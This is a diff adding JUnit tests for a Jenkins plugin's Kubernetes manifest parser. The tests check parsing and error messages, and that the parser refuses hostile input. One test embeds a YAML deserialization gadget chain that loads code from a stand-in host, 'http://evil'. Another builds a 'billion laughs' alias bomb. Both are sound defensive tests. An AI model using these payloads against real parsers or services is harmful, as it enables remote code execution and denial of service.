@@ -1,0 +1,149 @@
+package io.jenkins.plugins.k8sdeploy.engine.manifest;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.jenkins.plugins.k8sdeploy.engine.DeployException;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+class ManifestParserTest {
+
+    static List<Manifest> parse(String yaml) throws DeployException {
+        return ManifestParser.parse(new ManifestSource("k8s/app.yaml", yaml));
+    }
+
+    @Test
+    void multiDocumentStreamGivesEveryObjectWithItsLine() throws DeployException {
+        List<Manifest> ms = parse("""
+                # leading comment
+                apiVersion: v1
+                kind: ConfigMap
+                metadata: {name: cfg}
+                ---
+                ---
+                apiVersion: apps/v1
+                kind: Deployment
+                metadata:
+                  name: web
+                  namespace: shop
+                """);
+
+        assertEquals(2, ms.size(), "the empty document is skipped");
+        assertEquals("ConfigMap/cfg", ms.get(0).describe());
+        assertEquals("Deployment/web in shop", ms.get(1).describe());
+        assertEquals("apps", ms.get(1).group());
+        assertEquals("k8s/app.yaml:7", ms.get(1).origin());
+    }
+
+    @Test
+    void aKindListIsFlattened() throws DeployException {
+        List<Manifest> ms = parse("""
+                apiVersion: v1
+                kind: List
+                items:
+                - {apiVersion: v1, kind: Service, metadata: {name: a}}
+                - {apiVersion: v1, kind: Service, metadata: {name: b}}
+                """);
+
+        assertEquals(List.of("Service/a", "Service/b"), ms.stream().map(Manifest::describe).toList());
+    }
+
+    @Test
+    void jsonIsAcceptedToo() throws DeployException {
+        List<Manifest> ms = parse("{\"apiVersion\": \"v1\", \"kind\": \"Secret\", \"metadata\": {\"name\": \"s\"}}");
+
+        assertEquals("Secret/s", ms.get(0).describe());
+    }
+
+    @Test
+    void javaTypeTagsAreRefusedAndConstructNothing() {
+        DeployException e = assertThrows(DeployException.class, () -> parse("""
+                apiVersion: v1
+                kind: ConfigMap
+                metadata: {name: cfg}
+                data:
+                  x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil"]]]]
+                """));
+
+        assertEquals("k8s/app.yaml is not valid YAML: Global tag is not allowed:"
+                + " tag:yaml.org,2002:javax.script.ScriptEngineManager (line 5). Nothing was applied.", e.getMessage());
+    }
+
+    @Test
+    void anchorsAndMergeKeysWork() throws DeployException {
+        List<Manifest> ms = parse("""
+                apiVersion: v1
+                kind: ConfigMap
+                metadata: {name: cfg}
+                data:
+                  base: &base {a: "1", b: "2"}
+                  copy: *base
+                  merged:
+                    <<: *base
+                    b: "3"
+                """);
+
+        Map<?, ?> data = (Map<?, ?>) ms.get(0).body().get("data");
+        assertEquals(Map.of("a", "1", "b", "2"), data.get("copy"));
+        assertEquals(Map.of("a", "1", "b", "3"), data.get("merged"));
+    }
+
+    @Test
+    void aliasBombIsRefused() {
+        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+        for (char c = 'b'; c <= 'i'; c++) {
+            char p = (char) (c - 1);
+            bomb.append(c).append(": &").append(c).append(" [")
+                    .append(String.join(",", java.util.Collections.nCopies(9, "*" + p))).append("]\n");
+        }
+        DeployException e = assertThrows(DeployException.class, () -> parse(bomb.toString()));
+
+        assertEquals("k8s/app.yaml uses more than 50 YAML aliases, the mark of an alias bomb (\"billion laughs\")."
+                + " Nothing was applied. Expected plain manifests.", e.getMessage());
+    }
+
+    @Test
+    void aTwentyMegabyteDocumentIsRefusedBeforeParsing() {
+        String huge = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big}\ndata:\n  x: \"" + "a".repeat(20 * 1024 * 1024) + "\"\n";
+        DeployException e = assertThrows(DeployException.class, () -> parse(huge));
+
+        assertEquals("k8s/app.yaml is larger than 3 MiB, the most the API server accepts in one request, so it was"
+                + " not read. Expected Kubernetes manifests, not data.", e.getMessage());
+    }
+
+    @Test
+    void missingKindAndNameAreNamed() {
+        DeployException e = assertThrows(DeployException.class, () -> parse("apiVersion: v1\nmetadata: {}\n"));
+
+        assertEquals("k8s/app.yaml:1 has no kind, metadata.name. Expected every object to have apiVersion, kind and"
+                + " metadata.name (generateName cannot be applied repeatably).", e.getMessage());
+    }
+
+    @Test
+    void brokenYamlSaysWhereAndThatNothingWasApplied() {
+        DeployException e = assertThrows(DeployException.class,
+                () -> parse("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a\n"));
+
+        assertTrue(e.getMessage().startsWith("k8s/app.yaml is not valid YAML: "), e.getMessage());
+        assertTrue(e.getMessage().endsWith("Nothing was applied."), e.getMessage());
+    }
+
+    @Test
+    void duplicateKeysAreAnError() {
+        DeployException e = assertThrows(DeployException.class,
+                () -> parse("apiVersion: v1\nkind: ConfigMap\nkind: Secret\nmetadata: {name: a}\n"));
+
+        assertTrue(e.getMessage().contains("kind"), e.getMessage());
+    }
+
+    @Test
+    void aScalarDocumentIsNotAnObject() {
+        DeployException e = assertThrows(DeployException.class, () -> parse("just text\n"));
+
+        assertEquals("k8s/app.yaml:1 is not a Kubernetes object: expected a mapping with apiVersion, kind and"
+                + " metadata, found the scalar 'just text'.", e.getMessage());
+    }
+}
